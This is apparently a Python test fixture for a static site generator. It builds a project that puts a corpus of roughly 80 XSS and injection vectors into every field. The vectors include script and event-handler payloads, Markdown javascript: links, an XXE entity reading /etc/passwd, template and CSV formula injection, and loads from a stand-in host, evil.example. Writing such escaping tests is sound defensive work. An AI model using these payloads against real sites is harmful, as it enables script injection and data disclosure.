"""Hostile content: a corpus of script-injection vectors, and a project that puts every one in every field.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet (event handlers that fire
without a click), Markdown-specific link and image tricks, breakers for the contexts the site writes into
(HTML attributes, ``<script type="application/ld+json">``, JSON, XML/CDATA, CSV, Jinja2 and ``${}``
templates, URLs), and Unicode tricks. Every vector calls ``alert``/``confirm``/``prompt`` (a dialog the
browser tests record) or loads something from outside the site (a request or CSP violation they record).
"""

from __future__ import annotations

import json
from pathlib import Path

VECTORS: list[str] = [
    # Plain script and its spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(4);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '<script type="module">alert(5)</script>',
    "</script><script>alert(6)</script>",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "<!--<script>alert(10)</script>-->",
    "--><script>alert(11)</script>",
    "<![CDATA[<script>alert(12)</script>]]>",
    # Event handlers that fire on their own
    "<img src=x onerror=alert(13)>",
    '<img src="x" onerror="alert(14)">',
    "<img/src/onerror=alert(15)>",
    "<svg onload=alert(16)>",
    "<svg/onload=alert(17)//",
    "<body onload=alert(18)>",
    "<iframe src=javascript:alert(19)></iframe>",
    "<iframe srcdoc='<script>alert(20)</script>'></iframe>",
    "<input autofocus onfocus=alert(21)>",
    "<details open ontoggle=alert(22)>",
    "<video><source onerror=alert(23)></video>",
    "<audio src=x onerror=alert(24)>",
    "<marquee onstart=alert(25)>x</marquee>",
    "<object data=javascript:alert(26)></object>",
    "<embed src=javascript:alert(27)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(28)>",
    "<svg><animate onbegin=alert(29) attributeName=x dur=1s>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(30)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Verstuur</button></form>",
    "<b onmouseover=alert(31)>Bestuur</b>",
    "<a href=# onclick=alert(32)>klik</a>",
    '<div style="background:url(javascript:alert(33))">x</div>',
    # Breaking out of attributes and text contexts
    '" onmouseover="alert(34)',
    "' onfocus='alert(35)' autofocus='",
    '"><script>alert(36)</script>',
    "'><img src=x onerror=alert(37)>",
    '"><svg onload=alert(38)>',
    "` onmouseover=alert(39) `",
    '";alert(40);//',
    "';alert(41);//",
    "\\';alert(42);//",
    '{"a":"</script><img src=x onerror=alert(43)>"}',
    # Markdown: links, images, autolinks, references, raw HTML
    "[klik](javascript:alert(44))",
    "[klik](JaVaScRiPt:alert(45))",
    "[klik](javascript&#58;alert(46))",
    "[klik](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(47))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCg0OCk8L3NjcmlwdD4=)",
    "[klik](vbscript:msgbox(49))",
    '[klik](https://example.org "onmouseover=alert(50)")',
    "![plaatje](https://evil.example/x.png)",
    '![x" onerror="alert(51)](x)',
    '![x](x"onerror="alert(52))',
    "<javascript:alert(53)>",
    "[a]: javascript:alert(54)\n\n[a]",
    '<a href="javascript:alert(55)">klik</a>',
    "[<img src=x onerror=alert(56)>](https://example.org)",
    "`<script>alert(57)</script>`",
    "```html\n<script>alert(58)</script>\n```",
    "> <script>alert(59)</script>",
    "- <img src=x onerror=alert(60)>",
    "| <script>alert(61)</script> | x |\n| --- | --- |\n| a | b |",
    # Encodings and obfuscation
    "&lt;script&gt;alert(62)&lt;/script&gt;",
    "&#60;script&#62;alert(63)&#60;/script&#62;",
    "%3Cscript%3Ealert(64)%3C/script%3E",
    "\\u003cscript\\u003ealert(65)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(66)</scr</script>ipt>",
    "<img src=`x`onerror=alert(67)>",
    "<img src=x:alert(68) onerror=eval(src)>",
    "<svg><script>alert&#40;69&#41;</script>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(70)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(71) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(72)//>\\x3e",
    # Template and expression injection
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for x in range(9999999) %}x{% endfor %}",
    "${alert(73)}",
    "#{alert(74)}",
    "<%= alert(75) %>",
    "{{constructor.constructor('alert(76)')()}}",
    # XML, feeds, JSON, CSV contexts
    "]]><script>alert(77)</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "</entry><entry><title>nep</title></entry>",
    "</loc></url><url><loc>https://evil.example/</loc>",
    '"}]},"evil":{"x":"',
    '=HYPERLINK("https://evil.example/","klik")',
    # Unicode tricks
    "\u2028<script>alert(78)</script>\u2029",
    "\u202e>tpircs/<)97(trela>tpircs<",
    "\uff1cscript\uff1ealert(80)\uff1c/script\uff1e",
    "<img src=x onerror=\u0061lert(81)>",
]
"""Script-injection vectors; ``len(VECTORS)`` is the figure SECURITY.md reports."""


def _q(text: str) -> str:
    """A YAML value that keeps the text exactly (a JSON string is valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def file_name(number: int, vector: str) -> str:
    """A content file name carrying the vector (only '/' cannot be in a file name), under 255 bytes."""
    name = vector.replace("/", "_").replace("\n", " ")
    while len(f"{number:03d}-{name}.md".encode()) > 200:
        name = name[:-1]
    return f"{number:03d}-{name}.md"


def document(number: int, vector: str) -> str:
    """A content file with ``vector`` in every free-text field, heading, list, table and link of the format."""
    return f"""---
publisher: Lisse
kind: begroting
year: 2021
programme: {{number: "{number}", title: {_q(vector)}, label: {_q(vector)}}}
title: {_q(vector)}
description: {_q(vector)}
source: {{file: {_q(vector)}, sha256: {_q(vector)}}}
finance:
  - caption: {_q(vector)}
    unit: 1000
    row_header: {_q(vector)}
    columns:
      - {{label: {_q(vector)}, kind: amount}}
      - {{label: {_q(vector)}, kind: text}}
    rows:
      - {{label: {_q(vector)}, role: lasten, values: [-{number}, {_q(vector)}]}}
      - {{label: Baten, role: baten, values: [{number}, {_q(vector)}]}}
---
{vector}

## {vector.splitlines()[0]}

{vector}

### 1.{number} {vector.splitlines()[0]}
Status: {vector.splitlines()[0]}

{vector}

- {vector.splitlines()[0]}
- [{vector.splitlines()[0]}](https://example.org/?q={number})

Term
: {vector.splitlines()[0]}

[link]({vector.splitlines()[0]})
"""


def site_yaml() -> str:
    """site.yaml with the vectors in every text it holds."""
    everything = " ".join(VECTORS)
    return "\n".join(
        [
            f"title: {_q(' '.join(VECTORS[:30]))}",
            "base_url: https://test.example.org/",
            f"description: {_q(everything)}",
            "contact:",
            f"  organisation: {_q(everything)}",
            f"  email: {_q(VECTORS[42])}",
            f"  phone: {_q(VECTORS[5])}",
            f"  address: {_q(everything)}",
            "",
        ]
    )


def make_project(root: Path) -> Path:
    """A project with one content file per vector; returns ``root``."""
    (root / "content" / "hostile").mkdir(parents=True)
    (root / "site.yaml").write_text(site_yaml(), encoding="utf-8")
    for number, vector in enumerate(VECTORS, start=1):
        (root / "content" / "hostile" / file_name(number, vector)).write_text(document(number, vector), "utf-8")
    return root
